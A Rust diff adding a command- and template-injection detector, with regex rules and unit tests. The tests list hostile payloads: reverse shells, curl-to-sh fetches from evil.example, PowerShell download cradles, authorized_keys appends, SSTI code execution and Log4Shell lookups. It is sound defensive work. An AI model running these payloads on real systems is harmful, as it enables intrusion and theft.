+    rule: usize,
+}
+
+static PATTERNS: LazyLock<Vec<PatRule>> = LazyLock::new(|| {
+    let mk = |re: &str, rule: usize| PatRule {
+        re: Regex::new(re).expect("static regex"),
+        rule,
+    };
+    vec![
+        mk(r"(?i)/dev/(?:tcp|udp)/[\w.\-]+/\d+", R_REVSHELL),
+        mk(
+            r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n;|&]{0,60}?\s-[a-z]*[ec]\b",
+            R_REVSHELL,
+        ),
+        mk(
+            r"(?i)\b(?:bash|sh|zsh|ksh|dash)\s+-i\s*(?:[0-9]?>&|<&|>)",
+            R_REVSHELL,
+        ),
+        mk(
+            r#"(?i)\b(?:python[23]?|perl|ruby|php|node|lua)(?:\.exe)?\s+-[a-z]*[ecr]\s*["']?[^\n]{0,240}?(?:socket|subprocess|os\.system|pty\.spawn|fsockopen|child_process|tcpsocket|io\.popen|exec\s*\(|system\s*\(|popen)"#,
+            R_REVSHELL,
+        ),
+        mk(
+            r"(?i)\b(?:curl|wget)\b[^\n|;&]{0,200}?\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b",
+            R_REVSHELL,
+        ),
+        mk(r"(?i)\b(?:ba)?sh\s+<\(\s*(?:curl|wget)\b", R_REVSHELL),
+        mk(r"(?i)\bsocat\b[^\n]{0,120}?\b(?:exec|system):", R_REVSHELL),
+        mk(
+            r"(?i)\bmkfifo\s+\S+[^\n]{0,120}?\b(?:nc|ncat|netcat|telnet|openssl)\b",
+            R_REVSHELL,
+        ),
+        mk(
+            r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,80}?\s[-/](?:e|ec|en|enc|enco|encod|encodedcommand)\s+[A-Za-z0-9+/=]{8,}",
+            R_WINDOWS,
+        ),
+        mk(
+            r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}?(?:\biex\b|invoke-expression|downloadstring|downloadfile|invoke-webrequest|new-object\s+(?:system\.)?net\.webclient|-w(?:indowstyle)?\s+hidden|-exec(?:utionpolicy)?\s+bypass|-nop\b)",
+            R_WINDOWS,
+        ),
+        mk(
+            r"(?i)\biex\s*\(\s*(?:new-object|\(new-object|iwr|invoke-webrequest)",
+            R_WINDOWS,
+        ),
+        mk(r"(?i)\bcmd(?:\.exe)?\s+/[ck]\s+\S", R_WINDOWS),
+        mk(
+            r"(?i)\bcertutil(?:\.exe)?\b[^\n]{0,40}?-(?:urlcache|decode)",
+            R_WINDOWS,
+        ),
+        mk(
+            r"(?i)\bbitsadmin(?:\.exe)?\b[^\n]{0,40}?/transfer",
+            R_WINDOWS,
+        ),
+        mk(
+            r"(?i)\bmshta(?:\.exe)?\s+(?:https?|vbscript|javascript):",
+            R_WINDOWS,
+        ),
+        mk(
+            r"(?i)\brundll32(?:\.exe)?\b[^\n]{0,60}?javascript:",
+            R_WINDOWS,
+        ),
+        mk(
+            r"(?i)\bregsvr32(?:\.exe)?\b[^\n]{0,60}?/i:\s*https?",
+            R_WINDOWS,
+        ),
+        // Redirection into or out of places an attacker wants.
+        mk(
+            r"(?i)(?:^|[^<>=\-])(?:[0-9]?>>?|<)\s*(?:/etc/|/dev/tcp|/dev/udp|/var/www|/root/|/tmp/|~/\.ssh|/home/[^/\s]+/\.ssh|/proc/|[a-z]:\\windows|/usr/share/nginx|/srv/www)[^\s;|&]*",
+            R_REDIRECT,
+        ),
+        mk(
+            r"(?i)>>?\s*\S*(?:authorized_keys|\.bashrc|\.profile|crontab|cron\.d/\S+)",
+            R_REDIRECT,
+        ),
+        // Code-level execution calls with a command-looking argument.
+        mk(
+            r#"(?i)\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|spawn|execsync|os\.system|subprocess\.(?:call|run|popen|check_output))\s*\(\s*["'`]\s*(?:/|\./|\b(?:id|whoami|uname|ls|cat|pwd|sh|bash|cmd|powershell|nc|curl|wget|ping|sleep|echo|dir|type|net|ipconfig|ifconfig|hostname|env|ps|rm|chmod|python|perl|php|ruby|find|touch|mkdir|head|tail|more)\b)"#,
+            R_CODE_EXEC,
+        ),
+        mk(
+            r#"(?i)['"][^'"\n]{1,40}['"]\s*\.\s*execute\s*\(\s*\)"#,
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)\brequire\s*\(\s*['\x22]child_process['\x22]\s*\)",
+            R_CODE_EXEC,
+        ),
+        // Expression languages reaching the Java runtime, wherever they appear.
+        mk(
+            r"(?i)\bT\s*\(\s*java\.lang\.(?:Runtime|ProcessBuilder|System|Class)\b",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)java\.lang\.Runtime\b[^\n]{0,40}?getRuntime\s*\(\s*\)\s*\.\s*exec",
+            R_SSTI_RCE,
+        ),
+        mk(r"(?i)\bgetRuntime\s*\(\s*\)\s*\.\s*exec\s*\(", R_SSTI_RCE),
+        mk(
+            r"(?i)new\s+java\.lang\.ProcessBuilder|\bProcessBuilder\s*\(\s*['\x22\[{]",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)freemarker\.template\.utility\.(?:Execute|ObjectConstructor|JythonRuntime)",
+            R_SSTI_RCE,
+        ),
+        mk(r#"(?i)<#assign\s+\w+\s*=\s*["']?freemarker"#, R_SSTI_RCE),
+        mk(
+            r"(?i)#set\s*\(\s*\$\w+\s*=[^)]{0,80}?(?:getclass|forname|runtime|\.class\b)",
+            R_SSTI_RCE,
+        ),
+        mk(r"(?i)\$class\.(?:inspect|type)\s*\(", R_SSTI_RCE),
+        mk(r"(?i)\.getClass\s*\(\s*\)\s*\.\s*forName\s*\(", R_SSTI_RCE),
+        mk(
+            r"(?i)@java\.lang\.|#_memberaccess|#context\s*\[|@ognl\.",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)(?:''|\x22\x22|\(\)|\[\])\s*\.\s*__class__|__(?:class|init|base|mro|func)__\s*\.\s*__(?:mro|bases?|subclasses|globals|builtins|dict|code)__",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)\b(?:lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|self|config|request(?:\.application)?)\s*\.\s*__(?:globals|init|class|builtins)__",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)__import__\s*\(\s*['\x22](?:os|subprocess|pty|socket)['\x22]\s*\)",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)_self\.env\.(?:registerUndefinedFilterCallback|getFilter)|\|\s*(?:filter|map|sort|reduce)\s*\(\s*['\x22](?:system|exec|passthru|shell_exec|popen)['\x22]",
+            R_SSTI_RCE,
+        ),
+        mk(
+            r"(?i)\{php\}|\{system\s*\(|\{\$smarty\.(?:version|template_object)",
+            R_SSTI_RCE,
+        ),
+        mk(r"(?i)@\(\s*\d+\s*[*+]\s*\d+\s*\)", R_SSTI),
+        mk(
+            r"(?i)\bconstructor\s*\.\s*constructor\s*\(|process\.mainModule\.require",
+            R_SSTI_RCE,
+        ),
+    ]
+});
+
+/// Template delimiters and their closers.
+const TEMPLATE_OPEN: &[(&str, &str)] = &[
+    ("{{", "}}"),
+    ("{%", "%}"),
+    ("${", "}"),
+    ("#{", "}"),
+    ("*{", "}"),
+    ("%{", "}"),
+    ("<%", "%>"),
+];
+
+static TEMPLATE_AC: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasick::new(TEMPLATE_OPEN.iter().map(|(o, _)| *o)).expect("static patterns")
+});
+
+static ARITH: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"^\s*=?\s*\(?\s*['"]?\d{1,6}['"]?\s*[*+\-/%]\s*['"]?\d{1,6}['"]?\s*\)?\s*$"#)
+        .expect("static regex")
+});
+
+static TEMPLATE_RCE: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasickBuilder::new()
+        .ascii_case_insensitive(true)
+        .build([
+            "__class__",
+            "__globals__",
+            "__mro__",
+            "__subclasses__",
+            "__builtins__",
+            "__import__",
+            "__init__",
+            "__base__",
+            "popen",
+            "system(",
+            "exec(",
+            "eval(",
+            "getruntime",
+            "runtime",
+            "processbuilder",
+            "forname",
+            "classloader",
+            "subprocess",
+            "os.",
+            "registerundefined",
+            "|attr",
+            "lipsum",
+            "cycler",
+            "joiner",
+            "url_for",
+            "get_flashed",
+            "t(java",
+            "?new(",
+            "new(",
+            "freemarker",
+            "execute",
+            "file.open",
+            "file.read",
+            "io.popen",
+            "readlines",
+            "open(",
+            "`",
+            "%x",
+            ".constructor",
+            "child_process",
+            "mainmodule",
+            "config.items",
+            "config.from",
+            "getenv",
+            "@java",
+            "#_memberaccess",
+            "dump(app",
+            "app.request",
+            "self._",
+            "request.application",
+            "settings.secret",
+            "request.environ",
+            "shell_exec",
+            "passthru",
+            "read()",
+        ])
+        .expect("static patterns")
+});
+
+/// Bare object names that leak configuration when rendered: `{{config}}`.
+const TEMPLATE_BARE: &[&str] = &[
+    "config",
+    "self",
+    "settings",
+    "_self",
+    "app",
+    "request.environ",
+    "request",
+];
+
+fn scan_templates(text: &str, hits: &mut Vec<Hit>) {
+    let b = text.as_bytes();
+    for m in TEMPLATE_AC.find_iter(text) {
+        let (_, close) = TEMPLATE_OPEN[m.pattern().as_usize()];
+        let body_start = m.end();
+        let window_end = (body_start + 400).min(text.len());
+        let window = &b[body_start..window_end];
+        // For `${...}` allow one level of nested braces.
+        let mut depth = 0usize;
+        let mut close_at = None;
+        let cb = close.as_bytes();
+        let mut k = 0;
+        while k < window.len() {
+            if window[k] == b'\0' {
+                break;
+            }
+            if cb.len() == 1 {
+                if window[k] == b'{' {
+                    depth += 1;
+                } else if window[k] == b'}' {
+                    if depth == 0 {
+                        close_at = Some(k);
+                        break;
+                    }
+                    depth -= 1;
+                }
+            } else if window[k..].starts_with(cb) {
+                close_at = Some(k);
+                break;
+            }
+            k += 1;
+        }
+        let Some(len) = close_at else { continue };
+        let body_end = body_start + len;
+        let Some(body) = text.get(body_start..body_end) else {
+            continue;
+        };
+        let body = body
+            .trim_start_matches(['=', '-', '{'])
+            .trim_end_matches(['-', '}']);
+        let hit_end = body_end + close.len();
+        if ARITH.is_match(body) {
+            push(hits, text, R_SSTI, m.start(), hit_end);
+        } else if TEMPLATE_RCE.is_match(body)
+            || TEMPLATE_BARE
+                .iter()
+                .any(|w| body.trim().eq_ignore_ascii_case(w))
+        {
+            // A `${...}` body like `${HOME}` or `#{name}` is a placeholder; these words are not.
+            push(hits, text, R_SSTI_RCE, m.start(), hit_end);
+        }
+    }
+}
+
+static LOOKUP_STRIP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\$\{[^${}]{0,40}?:-|\$\{(?:lower|upper):").expect("static regex")
+});
+
+fn scan_jndi(text: &str, hits: &mut Vec<Hit>) {
+    let finder = memchr::memmem::Finder::new("${");
+    let b = text.as_bytes();
+    let mut from = 0;
+    while let Some(p) = finder.find(&b[from..]) {
+        let start = from + p;
+        let end = (start + 300).min(text.len());
+        let mut end_cb = end;
+        while !text.is_char_boundary(end_cb) {
+            end_cb -= 1;
+        }
+        let window = &text[start..end_cb];
+        let window = window.split('\0').next().unwrap_or("");
+        if window.len() > 6 {
+            let stripped = LOOKUP_STRIP.replace_all(window, "");
+            let collapsed: String = stripped
+                .chars()
+                .filter(|&ch| ch != '}' && !ch.is_whitespace())
+                .flat_map(char::to_lowercase)
+                .collect();
+            if collapsed.starts_with("${jndi:") {
+                // The hit covers the outermost lookup.
+                let mut depth = 0i32;
+                let mut stop = window.len();
+                for (k, ch) in window.char_indices() {
+                    match ch {
+                        '{' => depth += 1,
+                        '}' => {
+                            depth -= 1;
+                            if depth <= 0 {
+                                stop = k + 1;
+                                break;
+                            }
+                        }
+                        _ => {}
+                    }
+                }
+                push(hits, text, R_JNDI, start, start + stop);
+                from = start + stop;
+                continue;
+            }
+        }
+        from = start + 2;
+    }
+}
+
+/// Scans `text` for command and template injection.
+pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
+    let first = hits.len();
+    let mut pos = 0;
+    for seg in text.split('\0') {
+        scan_segment(text, (pos, pos + seg.len()), hits);
+        pos += seg.len() + 1;
+    }
+    scan_globs(text, hits);
+    if ANCHORS.is_match(text) {
+        for p in PATTERNS.iter() {
+            for m in p.re.find_iter(text) {
+                let (mut s, e) = (m.start(), m.end());
+                // The redirect regex consumes one leading context byte.
+                if p.rule == R_REDIRECT && !matches!(text.as_bytes()[s], b'<' | b'>' | b'0'..=b'9')
+                {
+                    s += 1;
+                }
+                push(hits, text, p.rule, s, e);
+            }
+        }
+        scan_templates(text, hits);
+        if text.contains("${") {
+            scan_jndi(text, hits);
+        }
+    }
+    dedupe(hits, first);
+}
+
+/// Globbed absolute paths such as `/???/c?t` or `/b??/n?`: never prose.
+fn scan_globs(text: &str, hits: &mut Vec<Hit>) {
+    let b = text.as_bytes();
+    let finder = memchr::memmem::Finder::new("/?");
+    let mut from = 0;
+    while let Some(p) = finder.find(&b[from..]) {
+        let at = from + p;
+        // Expand to the whitespace-delimited token.
+        let mut s = at;
+        while s > 0
+            && !b[s - 1].is_ascii_whitespace()
+            && !matches!(b[s - 1], b';' | b'|' | b'&' | b'\0' | b'`')
+        {
+            s -= 1;
+        }
+        let mut e = at;
+        while e < b.len()
+            && !b[e].is_ascii_whitespace()
+            && !matches!(b[e], b';' | b'|' | b'&' | b'\0' | b'`')
+        {
+            e += 1;
+        }
+        let tok = &b[s..e];
+        let q = tok.iter().filter(|&&x| x == b'?').count();
+        let slashes = tok.iter().filter(|&&x| x == b'/').count();
+        let clean = tok.iter().all(|&x| {
+            x.is_ascii_alphanumeric()
+                || matches!(
+                    x,
+                    b'/' | b'?' | b'*' | b'.' | b'[' | b']' | b'-' | b'_' | b'\'' | b'"' | b'\\'
+                )
+        });
+        if clean && q >= 2 && slashes >= 2 && tok.first() == Some(&b'/') {
+            push(hits, text, R_EVASION, s, e);
+        }
+        from = e.max(at + 2);
+    }
+}
+
+/// Removes hits of this module nested inside another of its hits with the same rule.
+fn dedupe(hits: &mut Vec<Hit>, first: usize) {
+    if hits.len() - first < 2 {
+        return;
+    }
+    let mut mine: Vec<Hit> = hits.drain(first..).collect();
+    mine.sort_by_key(|h| (h.start, std::cmp::Reverse(h.end)));
+    let mut kept: Vec<Hit> = Vec::with_capacity(mine.len());
+    for h in mine {
+        if kept
+            .iter()
+            .any(|k| std::ptr::eq(k.rule, h.rule) && k.start <= h.start && h.end <= k.end)
+        {
+            continue;
+        }
+        kept.push(h);
+    }
+    hits.extend(kept);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(text: &str) -> Vec<&'static str> {
+        let mut hits = Vec::new();
+        scan(text, &mut hits);
+        for h in &hits {
+            assert!(text.is_char_boundary(h.start) && text.is_char_boundary(h.end));
+            assert!(h.start < h.end && h.end <= text.len());
+        }
+        hits.iter().map(|h| h.rule.id).collect()
+    }
+
+    fn flagged(text: &str) -> bool {
+        !rules(text).is_empty()
+    }
+
+    #[test]
+    fn separators_with_commands() {
+        for t in [
+            "; cat /etc/passwd",
+            "| id",
+            "&& whoami",
+            "|| id",
+            "127.0.0.1; ls -la",
+            "a; uname -a",
+            ";id",
+            "';id;'",
+            "|| ping -c 10 127.0.0.1",
+            "; sleep 10",
+            "& ping -n 10 127.0.0.1 &",
+            "& dir c:\\",
+            "| type C:\\Windows\\win.ini",
+            "& net user",
+            "; rm -rf /tmp/*",
+            "; find / -perm -4000 -type f 2>/dev/null",
+            "foo\nid",
+            "x\ncat /etc/passwd",
+            ";\tcat\t/etc/passwd",
+            "| /usr/bin/id",
+            "; echo hello",
+            "; chmod 777 /etc/shadow",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+    }
+
+    #[test]
+    fn substitution_and_evasions() {
+        for t in [
+            "$(whoami)",
+            "$(sleep 5)",
+            "`id`",
+            "x=`cat /etc/passwd`",
+            "$(curl -s evil.example/p|bash)",
+            "`curl evil.example/x|sh`",
+            "a; u''name -a",
+            ";c'a't /etc/passwd",
+            ";w\"h\"oami",
+            "; w\\ho\\am\\i",
+            ";{cat,/etc/passwd}",
+            "cat${IFS}/etc/passwd",
+            ";cat$IFS$9/etc/passwd",
+            "/???/c?t /???/p??s??",
+            "; /b??/c?t /etc/passwd",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+        assert!(rules("a; u''name -a").contains(&"cmdi-evasion"));
+        assert!(rules("cat${IFS}/etc/passwd").contains(&"cmdi-ifs"));
+    }
+
+    #[test]
+    fn reverse_shells_and_windows() {
+        for (t, id) in [
+            (
+                "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                "cmdi-reverse-shell",
+            ),
+            ("nc -e /bin/sh 10.0.0.1 4444", "cmdi-reverse-shell"),
+            (
+                "python -c 'import socket,subprocess,os;s=socket.socket()'",
+                "cmdi-reverse-shell",
+            ),
+            ("curl http://evil.example/x.sh | sh", "cmdi-reverse-shell"),
+            (
+                "wget -O- http://evil.example/x | bash",
+                "cmdi-reverse-shell",
+            ),
+            ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "cmdi-windows"),
+            ("cmd /c whoami", "cmdi-windows"),
+            (
+                "powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x/p')\"",
+                "cmdi-windows",
+            ),
+            (
+                "; echo x | base64 -d > /var/www/html/x.php",
+                "cmdi-redirect",
+            ),
+            (
+                "&& echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
+                "cmdi-redirect",
+            ),
+            ("';system('id');'", "cmdi-code-exec"),
+        ] {
+            assert!(rules(t).contains(&id), "{t:?} lacks {id}: {:?}", rules(t));
+        }
+    }
+
+    #[test]
+    fn template_injection() {
+        for t in [
+            "{{7*7}}",
+            "{{ 7 * '7' }}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "{{config}}",
+            "{{config.items()}}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
+            "#{'id'.execute().text}",
+            "<%= system('id') %>",
+            "{% import os %}{{ os.popen('whoami').read() }}",
+            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
+    }
+
+    #[test]
+    fn log4shell() {
+        for t in [
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:ldap://x/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
+            "${j${env:NaN:-n}di:dns://x}",
+            "User-Agent: ${jNdI:rmi://x/y}",
+        ] {
+            assert!(rules(t).contains(&"cmdi-jndi"), "missed {t:?}");
+        }
+    }
+
+    #[test]
+    fn benign_prose() {
+        for t in [
+            "Tom & Jerry",
+            "rock & roll; then we left",
+            "use `ls` to list files",
+            "Run `ls -la` to see hidden files.",
+            "$5 or $10",
+            "C:\\Users\\me\\Documents",
+            "Open C:\\Users\\Anna\\Documents\\report.docx",
+            "cat videos | funny",
+            "Cats & dogs; fish & chips; salt & pepper.",
+            "My cat is called Bash and my dog is called Curl.",
+            "The id card is in my wallet.",
+            "Sleep is important; so is exercise.",
+            "Prefer $(command) over backticks in new scripts, it nests better.",
+            "Files: a.txt, b.txt & c.txt; total 3.",
+            "Our CI runs `cargo test --workspace` on every push.",
+            "Costs: 10 | 20 | 30 (small | medium | large)",
+            "{{ name }} is replaced by the template engine with the user's name.",
+            "Total = ${price} * ${quantity}",
+            "x < y && y > z",
+            "Please don't shell out to `sh -c` with user input; use Command::new with args.",
+            "| id | name | email |\n|----|------|-------|\n| 1 | Ann | a@x.io |",
+            "AT&T customer service; call us",
+            "Q&A session at 3pm",
+            "Jo's café & bar",
+            "$('#menu').hide(); $(document).ready(fn)",
+            "def __init__(self): pass",
+            "echo is a command; type is another",
+            "Set HOME=${HOME} in your profile",
+            "The result is 2 > 1 and 3 < 4",
+            "Marks & Spencer; more later",
+            "{\"type\": \"dir\", \"id\": 5}",
+            "He said: curl up with a book; sleep well",
+            "while IFS= read -r line; do echo \"$line\"; done",
+        ] {
+            assert!(!flagged(t), "false positive on {t:?}: {:?}", rules(t));
+        }
+    }
+
+    #[test]
+    fn spans_are_bounded_and_on_boundaries() {
+        let t = "héllo; cat /etc/passwd ünïcode";
+        let mut hits = Vec::new();
+        scan(t, &mut hits);
+        assert!(!hits.is_empty());
+        let h = hits[0];
+        assert_eq!(&t[h.start..h.start + 1], ";");
+    }
+
+    #[test]
+    fn glob_matching() {
+        assert!(glob_match(b"c?t", b"cat"));
+        assert!(glob_match(b"w*i", b"whoami"));
+        assert!(!glob_match(b"c?t", b"chat"));
+    }
+}
